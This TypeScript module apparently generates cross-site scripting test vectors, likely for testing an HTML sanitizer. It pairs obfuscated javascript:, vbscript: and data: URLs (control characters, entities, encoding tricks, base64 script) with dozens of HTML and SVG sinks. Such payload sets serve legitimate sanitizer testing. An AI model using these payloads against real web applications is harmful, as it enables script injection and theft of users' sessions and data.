import { base64, percent, references, type Vector } from './vector.ts';

/** Ways to write an address that runs a call, as the browser reads it. */
const ADDRESSES: readonly Vector[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => ` javascript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `\u001fjavascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `java\r\nscript:${call}`,
  (call) => `javascript\n:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `javascript&#58;${call}`,
  (call) => `javascript&#x3A;${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `${references('javascript:')}${call}`,
  (call) => `javascript:${percent(call)}`,
  (call) => `javascript://example.vn/%0A${call}`,
  (call) => `javascript://example.vn/%E2%80%A8${call}`,
  (call) => `javascript:/*https://example.vn/*/${call}`,
  (call) => `javascript:void(${call})`,
  (call) => `javascript:'<script>parent.${call}</script>'`,
  (call) => `vbscript:${call}`,
  (call) => `livescript:${call}`,
  (call) => `data:text/html,<script>opener.${call}</script>`,
  (call) => `data:text/html;base64,${base64(`<script>opener.${call}</script>`)}`,
  (call) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='opener.${call}'/>`,
  (call) => `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>opener.${call}</script>`,
  (call) => `blob:javascript:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `jar:javascript:${call}!/`,
  (call) => `filesystem:https://example.vn/temporary/${call}.html`,
];

const quoted = (address: string): string => address.replaceAll('"', '&quot;');

/** Where an address is followed or loaded. */
const PLACES: readonly ((address: string) => string)[] = [
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><input type=submit value="Gửi"></form>`,
  (address) => `<form><button formaction="${address}">Gửi</button></form>`,
  (address) => `<area href="${address}" shape=default alt="Bản đồ">`,
  (address) => `<base href="${address}"><a href="x">Xem</a>`,
  (address) => `<svg><a href="${address}"><text x=9 y=9>Xem</text></a></svg>`,
  (address) => `<svg><a xlink:href="${address}"><text x=9 y=9>Xem</text></a></svg>`,
  (address) => `<svg><a><animate attributeName=href values="${address}"/><text x=9 y=9>Xem</text></a></svg>`,
  (address) => `<svg><a><set attributeName=xlink:href to="${address}"/><text x=9 y=9>Xem</text></a></svg>`,
  (address) => `<math href="${address}">Xem</math>`,
  (address) => `<math><maction actiontype="statusline#x" xlink:href="${address}">Xem</maction></math>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<link rel=import href="${address}">`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<img src="${address}">`,
  (address) => `<img lowsrc="${address}" dynsrc="${address}">`,
  (address) => `<input type=image src="${address}">`,
  (address) => `<body background="${address}">`,
  (address) => `<table background="${address}"><tr><td>Ô</td></tr></table>`,
  (address) => `<video src="${address}" poster="${address}"></video>`,
  (address) => `<track src="${address}">`,
  (address) => `<blockquote cite="${address}">Trích</blockquote>`,
  (address) => `<applet code="${address}"></applet>`,
  (address) => `<isindex type=image src="${address}">`,
  (address) => `<p style="background:url(${address})">Chào</p>`,
  (address) => `<p style="-moz-binding:url(${address})">Chào</p>`,
  (address) => `<style>@import '${address}';</style>`,
];

/** Every way of writing in a link, and the plainest two in every place. */
export const addresses: readonly Vector[] = [
  ...ADDRESSES.map(
    (write): Vector =>
      (call) =>
        `<a href="${quoted(write(call))}">Xem bài</a>`,
  ),
  ...PLACES.map(
    (place): Vector =>
      (call) =>
        place(`javascript:parent.${call}`),
  ),
  ...PLACES.slice(0, 6).map(
    (place): Vector =>
      (call) =>
        place(`data:text/html;base64,${base64(`<script>parent.${call}</script>`)}`),
  ),
];

/** Addresses alone, for the places where our own data holds one. */
export const bareAddresses: readonly Vector[] = ADDRESSES;
